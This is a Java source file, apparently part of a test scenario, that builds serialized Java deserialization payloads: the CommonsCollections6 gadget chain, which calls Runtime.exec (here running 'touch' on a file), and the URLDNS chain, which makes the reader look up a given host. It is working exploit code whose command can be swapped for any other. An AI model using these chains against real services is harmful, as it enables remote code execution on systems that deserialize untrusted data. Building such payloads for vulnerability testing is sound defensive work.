package dev.hawser.scenario;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.URI;
import java.net.URISyntaxException;
import java.net.URL;
import java.net.URLConnection;
import java.net.URLStreamHandler;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.apache.commons.collections.Transformer;
import org.apache.commons.collections.functors.ChainedTransformer;
import org.apache.commons.collections.functors.ConstantTransformer;
import org.apache.commons.collections.functors.InvokerTransformer;
import org.apache.commons.collections.keyvalue.TiedMapEntry;
import org.apache.commons.collections.map.LazyMap;

/// Objects that do an attacker's will while Java's own serialization reads them.
final class Gadgets {
  /// What the names of all that a chain is made of begin with.
  static final String PACKAGE = "org.apache.commons.collections";

  /// The names of the classes that a chain is made of.
  static final List<String> PARTS =
      Stream.of(
              TiedMapEntry.class,
              LazyMap.class,
              ChainedTransformer.class,
              ConstantTransformer.class,
              InvokerTransformer.class)
          .map(Class::getName)
          .toList();

  private static final String KEY = "key";

  private Gadgets() {}

  /// The chain called CommonsCollections6: reading the map hashes its key, which asks the lazy map
  /// for a value, which the transformers make by running `touch` on a file.
  static byte[] commandInMap(Path file) {
    Map<Object, Object> made = new HashMap<>();
    TiedMapEntry key = new TiedMapEntry(LazyMap.decorate(made, touching(file)), KEY);
    made.put(KEY, "so that nothing runs in this process");
    Map<Object, Object> map = new HashMap<>(Map.of(key, "value"));
    made.remove(KEY);
    return stream(map);
  }

  /// The chain's own map alone, with nothing of the JDK before it.
  static byte[] lazyMap(Path file) {
    return stream(LazyMap.decorate(new HashMap<>(), touching(file)));
  }

  private static Transformer touching(Path file) {
    String[] command = {"touch", file.toString()};
    return new ChainedTransformer(
        new Transformer[] {
          new ConstantTransformer(Runtime.class),
          new InvokerTransformer(
              "getMethod",
              new Class<?>[] {String.class, Class[].class},
              new Object[] {"getRuntime", new Class<?>[0]}),
          new InvokerTransformer(
              "invoke",
              new Class<?>[] {Object.class, Object[].class},
              new Object[] {null, new Object[0]}),
          new InvokerTransformer("exec", new Class<?>[] {String[].class}, new Object[] {command}),
        });
  }

  /// The chain called URLDNS: reading the map hashes its key, which looks up the host. It needs no
  /// library.
  static byte[] lookupInMap(String host) {
    try {
      return stream(new HashMap<>(Map.of(URL.of(URI.create("http://" + host), new Silent()), "")));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /// The file that chains come from, for the class path of whoever is to be able to load them.
  static String library() {
    try {
      return Path.of(LazyMap.class.getProtectionDomain().getCodeSource().getLocation().toURI())
          .toString();
    } catch (URISyntaxException e) {
      throw new IllegalStateException(e);
    }
  }

  private static byte[] stream(Object object) {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
      out.writeObject(object);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return bytes.toByteArray();
  }

  /// Looks up nothing in this process. The hash code is what a URL has before its own is known, and
  /// so the reader works it out.
  private static final class Silent extends URLStreamHandler {
    @Override
    protected URLConnection openConnection(URL url) throws IOException {
      throw new IOException("nothing is opened");
    }

    @Override
    protected InetAddress getHostAddress(URL url) {
      return null;
    }

    @Override
    protected int hashCode(URL url) {
      return -1;
    }
  }
}
